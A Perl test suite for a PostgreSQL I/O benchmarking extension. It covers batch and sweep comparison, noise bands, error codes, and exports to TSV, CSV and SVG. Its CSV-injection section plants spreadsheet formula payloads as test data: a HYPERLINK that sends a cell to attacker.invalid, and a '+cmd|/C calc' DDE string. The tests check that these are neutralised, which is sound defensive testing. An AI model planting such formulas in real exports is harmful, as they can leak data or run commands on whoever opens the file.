# Comparing batches and sweeps, and the export formats: ranread_compare()'s
# rows, ratios and noise bands on constructed batches whose noise is known
# (a real difference, one within the noise, a percentile within one bucket,
# one worker with and without intervals, not like for like) and on real
# runs; ranread_compare_sweeps() on two real sweeps; every error with its
# SQLSTATE; ranread_export()'s 'ranread' format (RanRead's header, file name,
# iterations of a time-based run; one file per target, mode, block size,
# iodepth and loop, without stopped, cancelled, failed or memory-answered
# batches), CSV (RFC 4180, every column), SVG charts, the sweep filter, never
# overwriting, files as readable as COPY TO's, and 1.0's declaration before
# the update.
use strict;
use warnings;
use FindBin;
use lib "$FindBin::RealBin/..";
use PostgreSQL::Test::Utils;
use Test::More;
use POSIX ();
use RanreadTest;

my $node = new_node('compare');
$node->safe_psql('postgres', "SELECT ranread_setup('64 MB', target => 't', log_level => 0)");

# The SQLSTATE (and stderr) of $sql.
sub error_of
{
	my ($sql) = @_;
	my ($ret, $out, $err) = $node->psql('postgres', $sql, extra_params => [ '-v', 'VERBOSITY=verbose' ]);
	return (sqlstate_of($err), $err);
}

# ranread_compare()'s rows as { measure => [a, b, ratio, noise_pct, verdict] }, and the measures in order;
# the verdict's lines joined into its words, and checked to fit a terminal as psql prints them.
sub compare
{
	my ($function, $first, $second) = @_;
	my $out = $node->safe_psql('postgres',
		"SELECT measure, a, b, ratio, noise_pct, verdict FROM $function($first, $second)",
		extra_params => [ '-F', "\t", '-A' ]);
	my (%rows, @order);
	for my $line (split /\n/, $out)
	{
		my ($measure, @columns) = split /\t/, $line, -1;
		if ($measure eq 'verdict' && $rows{verdict})
		{
			$rows{verdict}[4] .= " $columns[4]";
			next;
		}
		$rows{$measure} = \@columns;
		push @order, $measure;
	}
	my ($ret, $table) = $node->psql('postgres', "\\pset format aligned\n\\pset tuples_only off\nSELECT * FROM $function($first, $second)");
	my ($widest) = sort { $b <=> $a } map { length } split /\n/, $table;
	cmp_ok($widest, '<=', 120, "$function($first, $second): psql prints it within 120 columns");
	return (\%rows, \@order);
}

# The relative standard error of the mean of @values (sample standard deviation / sqrt(n) / mean).
sub rse
{
	my @values = @_;
	my $n = @values;
	my $mean = 0;
	$mean += $_ / $n for @values;
	my $squares = 0;
	$squares += ($_ - $mean)**2 for @values;
	return sqrt($squares / ($n - 1)) / sqrt($n) / $mean;
}

sub near
{
	my ($got, $expected, $what) = @_;
	ok(defined $got && $got ne '' && abs($got - $expected) < 1e-6 * (1 + abs($expected)),
		"$what (got " . ($got // 'NULL') . ", expected $expected)");
}

# $got is $expected as the compare functions show it: rounded to three
# significant digits (the whole number from 100 up), and no more digits.
sub near_shown
{
	my ($got, $expected, $what) = @_;
	my $decimals = 3 - POSIX::ceil(POSIX::log10(abs($expected)));
	$decimals = 0 if $decimals < 0;
	my $digits = $got // '';
	$digits =~ s/^-?0*\.?0*//;
	$digits =~ s/\.//;
	$digits =~ s/0+$// if ($got // '') =~ /\./;
	ok($digits ne '' && abs($got - $expected) <= 10**-$decimals / 2 * (1 + 1e-9)
		  && ($decimals == 0 ? $got !~ /\./ : length($digits) <= 3),
		"$what, rounded (got " . ($got // 'NULL') . ", expected $expected)");
}

# --- constructed batches: the noise is what their workers' spread says -----
# A batch of one row per worker with these IOPS (1 process each: mean = 1000 / IOPS ms);
# every worker's percentiles are alike, and no histogram (so no sampling noise).
sub add_batch
{
	my ($batch, %o) = @_;
	my $db = $o{db} // 'postgres';
	my $physical = $o{physical} // 100;
	my $block_size = $o{block_size} // 8192;
	my $iodepth = $o{iodepth} // 1;
	my $rate = $o{rate_iops} // 'NULL';
	my $sweep = $o{sweep} // 'NULL';
	my @iops = @{ $o{iops} };
	my $n = @iops;
	my $mode = $o{mode} // 'smgr';
	my $target = $o{target} // 't';
	my $p50 = $o{p50} // 0.9;
	my $total = 0;
	$total += $_ for @iops;
	my $mean = 0;
	$mean += 1000 / $_ / $n for @iops;
	my $reads = $o{reads} // 1000 * $n;
	my $status = $o{status} // 'completed';
	$node->safe_psql($db, qq{
		INSERT INTO ranread_batches (batch, run_date, run_time, started_at, target, mode, block_size, processes,
									 iterations, evicted, reads, wall_s, response_time_ms, min_ms, max_ms, p50_ms,
									 p99_ms, p999_ms, iops, mb_per_s, physical_pct, status, iodepth, rate_iops, sweep)
		VALUES ($batch, current_date, '10:00:00', now(), '$target', '$mode', $block_size, $n, 1000, true, $reads, 1,
				$mean, 0.1, 20, $p50, 3, 5, $total, $total * $block_size / 1048576.0, $physical, '$status', $iodepth,
				$rate, $sweep);
		INSERT INTO ranread_results (batch, worker, run_date, run_time, started_at, target, mode, block_size,
									 processes, iterations, evicted, reads, elapsed_s, response_time_ms, p50_ms,
									 p99_ms, p999_ms, iops, bytes_physical, physical_pct, status, histogram)
		SELECT $batch, w, current_date, '10:00:00', now(), '$target', '$mode', 8192, $n, 1000, true, 1000, 1,
			   1000 / iops, $p50, 3, 5, iops, 8192000, 100, '$status', '{}'
		FROM unnest('{@{[ join(',', @iops) ]}}'::float8[]) WITH ORDINALITY AS u(iops, w);
	});
}

my @tight = (990, 1010, 1000, 1000, 995, 1005, 1000, 1000);    # +-1 %
my @loose = (900, 1100, 1000, 1000, 950, 1050, 1000, 1000);    # +-10 %
add_batch(1001, iops => \@tight);
add_batch(1002, iops => [ map { $_ / 2 } @tight ]);             # half the IOPS, as tight
add_batch(1003, iops => [ map { $_ * 1.05 } @tight ]);          # 5 % more, tight: real
add_batch(1004, iops => \@loose);
add_batch(1005, iops => [ map { $_ * 1.05 } @loose ]);          # 5 % more, loose: within the noise
add_batch(1006, iops => [ map { $_ * 1.003 } @tight ], p50 => 0.909);    # +0.3 %, p50 +1 %
add_batch(1007, iops => \@tight, mode => 'direct');

my ($rows, $order) = compare('ranread_compare', 1001, 1002);
is(join(',', @$order), 'iops,mean_ms,p50_ms,p99_ms,p999_ms,physical_pct,device_reads_per_s,verdict',
	'ranread_compare: one row per measure, in order, then the verdict, a row per line');
near($rows->{iops}[0], 8000, 'a is batch A\'s IOPS');
near($rows->{iops}[1], 4000, 'b is batch B\'s IOPS');
near($rows->{iops}[2], 0.5, 'ratio is b / a');
my $noise = 200 * sqrt(rse(@tight)**2 + rse(map { $_ / 2 } @tight)**2);
near_shown($rows->{iops}[3], $noise, 'noise_pct is twice A\'s and B\'s relative standard errors (worker spread) in quadrature');
is($rows->{iops}[4], 'slower', 'half the IOPS with tight workers: slower');
is($rows->{mean_ms}[4], 'slower', 'twice the mean latency: slower');
near($rows->{mean_ms}[2], 2, 'the mean latency ratio is 2');
is($rows->{p50_ms}[4], 'same', 'equal p50: same');
is($rows->{p50_ms}[3], '1.56', 'a percentile\'s noise is at least one histogram bucket (1/64 = 1.5625 %, shown as 1.56)');
is($rows->{physical_pct}[4], 'same', 'equal physical_pct: same');
is(join('|', @{ $rows->{device_reads_per_s} }), '||||not measured', 'no device statistics: NULLs, not measured');
like($rows->{verdict}[4],
	qr/^B has 50\.0% fewer IOPS than A \(4,000 against 8,000\), more than the [0-9.]+% noise: a real difference\. B's mean latency is 100\.0% higher/,
	'the verdict says B has 50% fewer IOPS, more than the noise: a real difference');
is(join('', @{ $rows->{verdict} }[ 0 .. 3 ]), '', 'the verdict rows have no numbers');

($rows) = compare('ranread_compare', 1001, 1003);
is($rows->{iops}[4], 'faster', '5 % more IOPS with +-1 % workers: faster');
cmp_ok($rows->{iops}[3], '<', 5, "and the noise band is under 5 % ($rows->{iops}[3] %)");
like($rows->{verdict}[4], qr/^B has 5\.0% more IOPS than A .*: a real difference\./, 'the verdict calls it real');

($rows) = compare('ranread_compare', 1004, 1005);
is($rows->{iops}[4], 'same within noise', 'the same 5 % with +-10 % workers: same within noise');
near_shown($rows->{iops}[3], 200 * sqrt(rse(@loose)**2 + rse(map { $_ * 1.05 } @loose)**2), 'its noise band');
cmp_ok($rows->{iops}[3], '>', 5, 'which is over 5 %');
like($rows->{verdict}[4], qr/^B has 5\.0% more IOPS than A .*, within the [0-9.]+% noise: no real difference\./,
	'the verdict says within the noise');

($rows) = compare('ranread_compare', 1001, 1006);
is($rows->{iops}[4], 'same within noise', 'identical workers +0.3 %: same within noise');
near($rows->{p50_ms}[2], 1.01, 'p50 1 % higher');
is($rows->{p50_ms}[4], 'same within noise', 'a percentile 1 % apart is within one bucket: same within noise');
unlike($rows->{verdict}[4], qr/Not like for like/, 'like for like: no such remark');

($rows) = compare('ranread_compare', 1001, 1007);
like($rows->{verdict}[4], qr/^Not like for like: mode smgr vs direct\. B has the same IOPS as A/,
	'a different mode: compared, but the verdict says not like for like');

($rows) = compare('ranread_compare', 1001, 1001);
is(join(',', map { $rows->{$_}[4] } qw(iops mean_ms p50_ms p99_ms p999_ms physical_pct)), 'same,same,same,same,same,same',
	'a batch against itself: the same throughout');

# one worker: the spread over time, from ranread_intervals; none: the noise is unknown
add_batch(1008, iops => [1000]);
add_batch(1009, iops => [1000]);
($rows) = compare('ranread_compare', 1008, 1009);
is($rows->{iops}[4], 'same', 'one worker each, equal: same');
is($rows->{iops}[3], '', 'one worker, no intervals, no histogram: noise unknown (NULL)');
add_batch(1010, iops => [1020]);
($rows) = compare('ranread_compare', 1008, 1010);
is($rows->{iops}[4], 'noise unknown', 'and a difference then has the verdict noise unknown');
like($rows->{verdict}[4], qr/the noise is unknown/, 'which the verdict says');
my @per_second = (1000, 1100, 900, 1000, 1000);
$node->safe_psql('postgres', qq{
	INSERT INTO ranread_intervals (batch, interval_no, start_s, seconds, reads, iops, mean_ms, workers_reading)
	SELECT b, n, n - 1, 1, iops, iops, 1000 / iops, 1
	FROM unnest('{@{[ join(',', @per_second) ]}}'::float8[]) WITH ORDINALITY AS u(iops, n), (VALUES (1008), (1010)) v(b);
	INSERT INTO ranread_intervals VALUES (1008, 6, 5, 0.2, 1, 5, 200, NULL, NULL, NULL, 1);
});
($rows) = compare('ranread_compare', 1008, 1010);
near_shown($rows->{iops}[3], 200 * sqrt(2 * rse(@per_second)**2),
	'one worker with 5 full intervals: the noise is their spread (the short last interval left out)');
is($rows->{iops}[4], 'same within noise', '2 % more IOPS within that noise');

# --- real runs ------------------------------------------------------------
my @real;
push @real, $node->safe_psql('postgres', "SELECT batch FROM ranread_run(2, 500, 't')") for 1 .. 3;
($rows, $order) = compare('ranread_compare', $real[0], $real[1]);
is(scalar(@$order), 8, 'two real batches: 8 rows');
my ($iops_a, $iops_b) = split /\|/, $node->safe_psql('postgres',
	"SELECT (SELECT iops FROM ranread_batches WHERE batch = $real[0]), (SELECT iops FROM ranread_batches WHERE batch = $real[1])");
near_shown($rows->{iops}[0], $iops_a, 'a real batch\'s IOPS');
near_shown($rows->{iops}[2], $iops_b / $iops_a, 'and the ratio');
cmp_ok($rows->{iops}[3], '>', 0, "a real batch's histogram gives a sampling noise floor ($rows->{iops}[3] %)");
ok((grep { $rows->{$_}[3] ne '' } qw(iops mean_ms p50_ms p99_ms p999_ms)) == 5,
	'every latency measure of a real batch has a noise band');
like($rows->{iops}[4], qr/^(faster|slower|same within noise|same)$/, "its verdict is a word ($rows->{iops}[4])");
like($rows->{verdict}[4], qr/^B has .* IOPS than A .*noise.*\. B's mean latency .*\. B's p99 /, 'and a verdict in words');

# --- errors ---------------------------------------------------------------------
$node->safe_psql('postgres', q{
	INSERT INTO ranread_batches (batch, run_date, run_time, started_at, target, mode, block_size, processes,
								 iterations, evicted, reads, wall_s, iops, mb_per_s, status)
	VALUES (1020, current_date, '10:00:00', now(), 't', 'smgr', 8192, 2, 100, true, 0, 0.1, 0, 0, 'cancelled')});
for my $case (
	[ 'ranread_compare(NULL, 1001)', '22004', qr/batch_a must not be null/ ],
	[ 'ranread_compare(1001, NULL)', '22004', qr/batch_b must not be null/ ],
	[ 'ranread_compare(999999, 1001)', '22023', qr/batch 999999 does not exist/ ],
	[ 'ranread_compare(1001, 999999)', '22023', qr/batch 999999 does not exist/ ],
	[ 'ranread_compare(1001, 1020)', '22023', qr/batch 1020 has no reads to compare\n.*DETAIL:  It ended with status cancelled before any read was timed\./ ],
	[ 'ranread_compare_sweeps(NULL, 1)', '22004', qr/sweep_a must not be null/ ],
	[ 'ranread_compare_sweeps(1, NULL)', '22004', qr/sweep_b must not be null/ ],
	[ 'ranread_compare_sweeps(999, 999)', '22023', qr/sweep 999 does not exist/ ])
{
	my ($sql, $state, $message) = @$case;
	my ($got, $err) = error_of("SELECT * FROM $sql");
	is($got, $state, "$sql: $state");
	like($err, $message, "$sql: its message");
}

# --- two real sweeps --------------------------------------------------------------
for (1 .. 2)
{
	$node->safe_psql('postgres',
		"CALL ranread_sweep(start_processes => 1, max_processes => 2, iterations => 300, target => 't')");
}
my ($sweep_a, $sweep_b) = split /\n/, $node->safe_psql('postgres', 'SELECT sweep FROM ranread_sweep_runs ORDER BY sweep');
($rows, $order) = compare('ranread_compare_sweeps', $sweep_a, $sweep_b);
my @common = split /\n/, $node->safe_psql('postgres',
	"SELECT processes FROM ranread_batches WHERE sweep = $sweep_a INTERSECT SELECT processes FROM ranread_batches WHERE sweep = $sweep_b ORDER BY 1");
cmp_ok(scalar(@common), '>=', 1, 'the two sweeps ran some process counts alike');
is(join(',', @$order),
	join(',', 'max iops', 'max iops processes', 'slo iops', 'slo processes', 'knee processes',
		(map { my $p = $_ == 1 ? 'process' : 'processes'; ("iops at $_ $p", "p99_ms at $_ $p") } @common), 'verdict'),
	'ranread_compare_sweeps: the verdicts side by side, then IOPS and p99 at each process count both ran, then the verdict');
for my $side ([ 0, $sweep_a ], [ 1, $sweep_b ])
{
	my ($i, $sweep) = @$side;
	is(join('|', map { $_ eq '' ? '' : sprintf('%.0f', $_) } ($rows->{'max iops'}[$i], $rows->{'max iops processes'}[$i],
				$rows->{'slo iops'}[$i], $rows->{'knee processes'}[$i])),
		$node->safe_psql('postgres',
			"SELECT concat_ws('|', coalesce(max_iops::text, ''), coalesce(max_iops_processes::text, ''), coalesce(slo_iops::text, ''), coalesce(knee_processes::text, '')) FROM ranread_sweeps WHERE sweep = $sweep"),
		"sweep $sweep: highest IOPS, where, within the SLO and knee as ranread_sweeps says");
}
my $step = "iops at $common[0] " . ($common[0] == 1 ? 'process' : 'processes');
near_shown($rows->{$step}[0], $node->safe_psql('postgres', "SELECT avg(iops) FROM ranread_batches WHERE sweep = $sweep_a AND processes = $common[0] AND status = 'completed'"),
	"'$step': A's step");
near_shown($rows->{$step}[1], $node->safe_psql('postgres', "SELECT avg(iops) FROM ranread_batches WHERE sweep = $sweep_b AND processes = $common[0] AND status = 'completed'"),
	"'$step': B's step");

# a step that ran twice (its band straddled a rule) is compared as its runs
# combined, as ranread_sweeps judges it, not as its first batch: sweeps
# constructed in a transaction rolled back
my $repeated = $node->safe_psql('postgres', q{
	BEGIN;
	INSERT INTO ranread_sweep_runs (sweep, started_at, leader_pid, target, mode, block_size, start_processes,
		max_processes, max_processes_by, stop_latency_ms, min_scaling_pct, slo_mean_ms, slo_p99_ms, status, stop_rule)
	VALUES (900, now(), 1, 't', 'smgr', 8192, 1, 1, 'argument', 10, 25, 2, 5, 'completed', 'max processes'),
		(901, now(), 1, 't', 'smgr', 8192, 1, 1, 'argument', 10, 25, 2, 5, 'completed', 'max processes');
	INSERT INTO ranread_batches (batch, run_date, run_time, started_at, target, mode, block_size, processes, evicted,
		reads, wall_s, iops, mb_per_s, response_time_ms, p99_ms, physical_pct, status, sweep, sweep_step,
		iops_band_pct, mean_band_pct, p99_band_pct)
	VALUES (9001, current_date, '10:00', now(), 't', 'smgr', 8192, 1, true, 1000, 1, 1000, 7.8, 1, 3, 100,
			'completed', 900, 1, 2, 2, 4),
		(9002, current_date, '10:00', now(), 't', 'smgr', 8192, 1, true, 1200, 1, 1200, 9.4, 0.8, 2.5, 100,
			'completed', 900, 1, 2, 2, 4),
		(9011, current_date, '10:00', now(), 't', 'smgr', 8192, 1, true, 2000, 1, 2000, 15.6, 0.5, 1, 100,
			'completed', 901, 1, 2, 2, 4);
	SELECT string_agg(measure || '=' || coalesce(a::text, ''), ',' ORDER BY measure)
	FROM ranread_compare_sweeps(900, 901) WHERE measure IN ('max iops', 'slo iops', 'iops at 1 process');
	SELECT max_iops FROM ranread_sweeps WHERE sweep = 900;
	ROLLBACK});
is($repeated, "iops at 1 process=1100,max iops=1100,slo iops=1100\n1100",
	'a step run twice is compared as its runs combined (1000 and 1200: 1100), the figure ranread_sweeps gives');
like($rows->{verdict}[4], qr/highest IOPS/, "the sweeps' verdict in words: $rows->{verdict}[4]");

# --- export: the 'ranread' format -------------------------------------------
my $dir = PostgreSQL::Test::Utils::tempdir();
# in mode direct, so that the device answers every read and the batch is exported
$node->safe_psql('postgres', "SELECT ranread_run(2, NULL, 't', 'direct', duration => '1 s')");
my ($timed_batch, $timed_reads) = split /\|/, $node->safe_psql('postgres', 'SELECT batch, reads FROM ranread_batches WHERE iterations IS NULL ORDER BY batch DESC LIMIT 1');
my ($path) = grep { /_t_direct_8k_qd1\.txt$/ } split /\n/,
	$node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir', 'ranread')");
like($path, qr{^\Q$dir\E/PerfToolsRanRead_\d{8}-\d{4}(-\d+)?_t_direct_8k_qd1\.txt$},
	"format 'ranread' writes PerfToolsRanRead_YYYYMMDD-HHMM_t_direct_8k_qd1.txt for target t, direct, 8 kB, queue depth 1");
my @lines = defined $path ? split /\n/, slurp_file($path) : ();
is($lines[0], "RunDate\tRunTime\tDatabase\tIterations\tProcesses\tResponseTime\tIOPS", "RanRead's seven headers, tab-separated");
my $comparable = "target = 't' AND mode = 'direct' AND block_size = 8192 AND iodepth = 1 AND rate_iops IS NULL "
  . "AND status = 'completed' AND physical_pct >= 99";
is($#lines, $node->safe_psql('postgres', "SELECT count(*) FROM ranread_summary WHERE $comparable"),
	'one line per completed batch of that group that the device answered');
is(scalar(grep { (split /\t/, $_, -1) == 7 } @lines), scalar(@lines), 'every line has exactly seven fields');
my $position = $node->safe_psql('postgres', "SELECT count(*) FROM ranread_summary WHERE $comparable AND batch <= $timed_batch");
my @timed = split /\t/, $lines[$position];
# numeric round() takes halves away from zero; sprintf('%.0f') to even
is($timed[3], int($timed_reads / 2 + 0.5), 'Iterations of a time-based run: its reads per process');
is(join('|', @timed[ 0, 1, 2, 4 ]), $node->safe_psql('postgres',
		"SELECT to_char(run_date, 'YYYY-MM-DD') || '|' || to_char(run_time, 'HH24:MI:SS') || '|' || target || '|' || processes FROM ranread_batches WHERE batch = $timed_batch"),
	'RunDate, RunTime, Database (the target) and Processes');
is(join('|', @timed[ 5, 6 ]), $node->safe_psql('postgres',
		"SELECT response_time_ms || '|' || iops FROM ranread_summary WHERE batch = $timed_batch"),
	'ResponseTime in ms and IOPS whole, as ranread_summary shows them');

# --- export: CSV, every column, RFC 4180 ----------------------------------------
add_batch(1030, iops => [1000], target => 'a,"b"');
my @paths = split /\n/, $node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir', csv => true)");
is(scalar(@paths), 2, 'csv => true: two files');
like($paths[0], qr{/ranread_\d{8}-\d{4}(-\d+)?\.tsv$}, 'the TSV first');
(my $csv_name = $paths[0]) =~ s/\.tsv$/.csv/;
is($paths[1], $csv_name, 'then the CSV, under the same name');

# Fields of an RFC 4180 record.
sub csv_fields
{
	my ($record) = @_;
	my @fields;
	while ($record =~ /\G(?:"((?:[^"]|"")*)"|([^,"]*))(,|$)/g)
	{
		my ($quoted, $plain, $separator) = ($1, $2, $3);
		push @fields, defined $quoted ? $quoted =~ s/""/"/gr : $plain;
		last if $separator eq '';
	}
	return @fields;
}
my $csv = slurp_file($paths[1]);
my @records = split /\r\n/, $csv;
is(scalar(() = $csv =~ /\r\n/g), scalar(@records), 'every CSV line ends with CRLF');
my $columns = $node->safe_psql('postgres',
	"SELECT count(*) FROM pg_attribute WHERE attrelid = 'ranread_summary'::regclass AND attnum > 0 AND NOT attisdropped");
my @header = csv_fields($records[0]);
is(scalar(@header), $columns, "the CSV header has every column of ranread_summary ($columns)");
is(join(',', @header[ -5 .. -1 ]), 'sweep,sweep_step,iodepth,ended_by,device_shared_pct', 'including sweep, sweep_step, iodepth, ended_by and device_shared_pct');
is(scalar(grep { scalar(csv_fields($_)) == $columns } @records), scalar(@records), 'every CSV record has that many fields');
my ($quoted) = grep { /"a,""b"""/ } @records;
ok(defined $quoted, 'a field with a comma and quotes is quoted, its quotes doubled');
is((csv_fields($quoted))[2], 'a,"b"', 'and reads back as it was');

# --- export: text a spreadsheet would run as a formula --------------------------------
# (OWASP's CSV injection: a forged target or mode; cells beginning with = + - @, a tab or a CR
# get a leading ', which spreadsheets read as text; numbers stay numbers)
add_batch(1031, iops => [1000], target => '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
	mode => '+cmd|/C calc!A0', physical => -5);
add_batch(1032, iops => [1000], target => '@SUM(A1:A9)', mode => '-x');
add_batch(1033, iops => [1000], target => "\t1", mode => '-7');
@paths = split /\n/, $node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir', csv => true)");
my @csv_records = split /\r\n/, slurp_file($paths[1]);
my @csv_header = csv_fields($csv_records[0]);
my %at = map { $csv_header[$_] => $_ } 0 .. $#csv_header;
my %by_batch = map { my @f = csv_fields($_); ($f[ $at{batch} ] => \@f) } @csv_records[ 1 .. $#csv_records ];
is(join(' | ', map { $by_batch{1031}[ $at{$_} ] } qw(target mode physical_pct)),
	q{'=HYPERLINK("http://attacker.invalid/?"&A1,"click") | '+cmd|/C calc!A0 | -5.0},
	'CSV: a target and a mode a spreadsheet would run as formulas are exported as text, a negative number as it is');
is(join(' | ', map { $by_batch{1032}[ $at{$_} ] } qw(target mode)), q{'@SUM(A1:A9) | '-x}, 'likewise @ and -');
is(join(' | ', map { $by_batch{1033}[ $at{$_} ] } qw(target mode)), "'\t1 | -7",
	'a tab before a number is text (a spreadsheet would trim it), a signed number is a number');
my ($tsv_line) = grep { /^\S+\t\S+\t'\@SUM/ } split /\n/, slurp_file($paths[0]);
ok(defined $tsv_line, 'and in the TSV');

# --- export to the client: ranread_export_files() and psql --------------------------
# The same files as rows: written by psql with unaligned, tuples-only output they are the
# server's files byte for byte (the function leaves out the final newline psql adds).
my $files = $node->safe_psql('postgres', 'SELECT string_agg(file, \' \' ORDER BY file) FROM ranread_export_files(csv => true)');
like($files, qr/^ranread_\d{8}-\d{4}\.csv ranread_\d{8}-\d{4}\.tsv$/, 'ranread_export_files(csv => true): the CSV and the TSV, named as ranread_export() names them');
foreach my $kind ('tsv', 'csv')
{
	my $client = "$dir/client.$kind";
	my ($r, $o, $e) = $node->psql('postgres',
		"SELECT content FROM ranread_export_files(csv => true) WHERE file LIKE '%.$kind' \\g (format=unaligned tuples_only=on) $client");
	is($r, 0, "psql writes the $kind on the client") or diag($e);
	is(slurp_file($client), slurp_file($kind eq 'tsv' ? $paths[0] : $paths[1]),
		"and it is ranread_export()'s $kind byte for byte");
}

# the forged batches go: the exports below count what the rest recorded
$node->safe_psql('postgres', 'DELETE FROM ranread_results WHERE batch IN (1031, 1032, 1033); DELETE FROM ranread_batches WHERE batch IN (1031, 1032, 1033)');

# --- export: never overwrite -------------------------------------------------------
# within one minute: wait if it is about to turn
my $second = $node->safe_psql('postgres', "SELECT extract(second FROM now())::int");
sleep(61 - $second) if $second > 50;
my $first = $node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir')");
my ($stamp, $number) = $first =~ /ranread_(\d{8}-\d{4})(?:-(\d+))?\.tsv$/;
$number //= 1;
my $before = slurp_file($first);
my $planted = "$dir/ranread_$stamp-" . ($number + 1) . '.tsv';
append_to_file($planted, "planted\n");
my $second_path = $node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir')");
is($second_path, "$dir/ranread_$stamp-" . ($number + 2) . '.tsv',
	'a second export in the same minute writes another file, past a name already taken');
is(slurp_file($planted), "planted\n", 'the file under the taken name is left alone');
is(slurp_file($first), $before, 'and so is the first export');

# --- export: the sweep filter and the charts -----------------------------------------
@paths = split /\n/, $node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir', sweep => $sweep_b, svg => true)");
is(scalar(@paths), 2, 'sweep => N, svg => true: the TSV and the chart');
@lines = split /\n/, slurp_file($paths[0]);
my @names = split /\t/, $lines[0];
my ($sweep_column) = grep { $names[$_] eq 'sweep' } 0 .. $#names;
is($#lines, $node->safe_psql('postgres', "SELECT count(*) FROM ranread_batches WHERE sweep = $sweep_b"),
	"only sweep $sweep_b\'s batches");
is(scalar(grep { (split /\t/, $_, -1)[$sweep_column] eq $sweep_b } @lines[ 1 .. $#lines ]), $#lines,
	'each of them in that sweep');
like($paths[1], qr{/ranread_\d{8}-\d{4}(-\d+)?\.svg$}, 'the chart is ranread_YYYYMMDD-HHMM.svg');
like(slurp_file($paths[1]), qr/<svg\b/, 'an SVG document');
is(slurp_file($paths[1]) =~ s/\s+\z//r, $node->safe_psql('postgres', "SELECT ranread_chart($sweep_b)") =~ s/\s+\z//r,
	"ranread_chart($sweep_b)'s");
@paths = split /\n/, $node->safe_psql('postgres', "SELECT * FROM ranread_export('$dir', 'tsv', svg => true)");
is(join(',', map { m{(-sweep\d+\.svg|\.tsv)$} ? $1 : $_ } @paths), ".tsv,-sweep$sweep_a.svg,-sweep$sweep_b.svg",
	'without a sweep: a chart per sweep, named after it');

# --- export: errors ---------------------------------------------------------------------
for my $case (
	[ "ranread_export('$dir', 'xls')", '22023', qr/unknown export format "xls"\n.*HINT:  The formats are 'tsv' .* and 'ranread'/ ],
	[ "ranread_export('$dir', 'csv')", '22023',
	  qr/unknown export format "csv"\n.*HINT:  The formats are 'tsv' .* and 'ranread' .*; for a CSV file as well, pass csv => true\./ ],
	[ "ranread_export('$dir', NULL)", '22004', qr/export format must not be null/ ],
	[ "ranread_export('$dir', sweep => 999)", '22023', qr/sweep 999 does not exist/ ],
	[ "ranread_export('$dir', csv => NULL)", '22004', qr/csv must not be null/ ],
	[ "ranread_export('$dir', svg => NULL)", '22004', qr/svg must not be null/ ],
	[ "ranread_export(NULL)", '22004', qr/export directory must not be null/ ])
{
	my ($sql, $state, $message) = @$case;
	my ($got, $err) = error_of("SELECT * FROM $sql");
	is($got, $state, "$sql: $state");
	like($err, $message, "$sql: its message");
}

# --- export: RanRead's format never mixes what cannot be compared ----------------------
# A history of two targets (one whose name is not file-safe), two modes, two block sizes, two
# queue depths, an open loop, two names alike once file-safe, and batches that did not measure
# the storage: stopped, cancelled, failed, and answered by memory.
$node->safe_psql('postgres', 'CREATE DATABASE mixed');
$node->safe_psql('mixed', 'CREATE EXTENSION ranread');
add_batch(1, db => 'mixed', iops => [1000], target => 'vol a');
add_batch(2, db => 'mixed', iops => [1000, 1000], target => 'vol a');
add_batch(3, db => 'mixed', iops => [1000, 1000, 1000], target => 'vol a', status => 'stopped');
add_batch(4, db => 'mixed', iops => [9000, 9000, 9000, 9000], target => 'vol a', physical => 66);
add_batch(5, db => 'mixed', iops => [1000, 1000, 1000, 1000], target => 'vol a');
add_batch(6, db => 'mixed', iops => [500], target => 'vol a', mode => 'direct');
add_batch(7, db => 'mixed', iops => [500, 500], target => 'vol a', mode => 'direct');
add_batch(8, db => 'mixed', iops => [800], target => 'b/../x');
add_batch(9, db => 'mixed', iops => [400], target => 'vol a', mode => 'direct', block_size => 65536);
add_batch(10, db => 'mixed', iops => [4000], target => 'vol a', mode => 'direct', iodepth => 16);
add_batch(11, db => 'mixed', iops => [1000], target => 'c', status => 'cancelled');
add_batch(12, db => 'mixed', iops => [1000], target => 'vol a', status => 'failed');
add_batch(13, db => 'mixed', iops => [300], target => 'vol a', rate_iops => 300);
add_batch(14, db => 'mixed', iops => [700], target => 'x y');
add_batch(15, db => 'mixed', iops => [600], target => 'x_y');
add_batch(16, db => 'mixed', iops => [1000], target => 'vol a', physical => 99.5);
my $mixed_dir = PostgreSQL::Test::Utils::tempdir();
my ($ret, $out, $err) = $node->psql('mixed', "SELECT * FROM ranread_export('$mixed_dir', 'ranread')",
	extra_params => [ '-v', 'VERBOSITY=verbose' ]);
is($ret, 0, "format 'ranread' over the mixed history");
@paths = split /\n/, $out;
my ($stamp_part) = $paths[0] =~ m{/PerfToolsRanRead_(\d{8}-\d{4}(?:-\d+)?)_};
is(join(',', map { s{^\Q$mixed_dir\E/PerfToolsRanRead_\Q$stamp_part\E}{}r } @paths),
	'_vol_a_smgr_8k_qd1.txt,_vol_a_direct_8k_qd1.txt,_b____x_smgr_8k_qd1.txt,_vol_a_direct_64k_qd1.txt,'
	  . '_vol_a_direct_8k_qd16.txt,_vol_a_smgr_8k_qd1_open.txt,_x_y_smgr_8k_qd1.txt,_x_y_smgr_8k_qd1_2.txt',
	'one file per target, mode, block size, queue depth and loop, in the order of their first batch; names file-safe and distinct');
is(scalar(grep { m{^\Q$mixed_dir\E/PerfToolsRanRead_\d{8}-\d{4}(-\d+)?_[A-Za-z0-9_-]+\.txt$} } @paths), scalar(@paths),
	'every name has only letters, digits, _ and - after the time');
my %rows;    # file => "Database/Processes/IOPS;..."
for my $p (@paths)
{
	my @l = split /\n/, slurp_file($p);
	is($l[0], "RunDate\tRunTime\tDatabase\tIterations\tProcesses\tResponseTime\tIOPS", "$p: RanRead's header");
	$rows{ $p =~ s{.*\Q$stamp_part\E}{}r } = join(';', map { join('/', (split /\t/)[ 2, 4, 6 ]) } @l[ 1 .. $#l ]);
}
is($rows{'_vol_a_smgr_8k_qd1.txt'}, 'vol a/1/1000;vol a/2/2000;vol a/4/4000;vol a/1/1000',
	'the smgr file: batches 1, 2, 5 and 16 (physical_pct 99.5), without the stopped batch 3 and the memory-answered batch 4');
is($rows{'_vol_a_direct_8k_qd1.txt'}, 'vol a/1/500;vol a/2/1000', 'the direct file: its two batches');
is($rows{'_b____x_smgr_8k_qd1.txt'}, 'b/../x/1/800', 'the other target: its own file, its name as it is inside');
